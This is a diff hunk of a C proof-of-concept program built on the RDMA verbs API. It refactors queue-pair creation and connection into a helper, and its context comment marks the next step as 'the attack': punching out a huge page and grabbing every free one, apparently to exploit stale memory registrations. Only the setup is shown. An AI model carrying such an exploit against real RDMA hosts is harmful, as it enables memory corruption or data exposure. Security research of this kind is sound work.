@@ -132,17 +132,8 @@ int main(int argc, char **argv) {
 	memset(other, 0x33, HUGE);
 	struct ibv_mr *omr = ibv_reg_mr(pd1, other, HUGE, IBV_ACCESS_LOCAL_WRITE | IBV_ACCESS_REMOTE_WRITE);
 	if (!omr) DIE("ibv_reg_mr (peer buffer): %m");
-	struct ibv_qp_init_attr qa = {.send_cq = cq0, .recv_cq = cq0, .qp_type = IBV_QPT_RC,
-				      .cap = {.max_send_wr = 8, .max_recv_wr = 8, .max_send_sge = 1, .max_recv_sge = 1}};
-	struct ibv_qp *q0 = ibv_create_qp(pd0, &qa);
-	qa.send_cq = qa.recv_cq = cq1;
-	struct ibv_qp *q1 = ibv_create_qp(pd1, &qa);
-	if (!q0 || !q1) DIE("create qp");
-	union ibv_gid g0, g1;
-	if (ibv_query_gid(c0, 1, 1, &g0) || ibv_query_gid(c1, 1, 1, &g1)) DIE("query gid");
-	int acc = IBV_ACCESS_REMOTE_WRITE | IBV_ACCESS_LOCAL_WRITE | IBV_ACCESS_REMOTE_READ;
-	connect_qp(q0, q1->qp_num, &g1, IBV_MTU_1024, acc);
-	connect_qp(q1, q0->qp_num, &g0, IBV_MTU_1024, acc);
+	struct ibv_qp *q0, *q1;
+	rc_pair(c0, pd0, cq0, c1, pd1, cq1, 8, IBV_ACCESS_REMOTE_WRITE | IBV_ACCESS_LOCAL_WRITE | IBV_ACCESS_REMOTE_READ, &q0, &q1);
 	printf("REGISTERED lkey %#x\n", mr->lkey);
 
 	/* The attack: punch the second huge page out, then take every free huge page. */
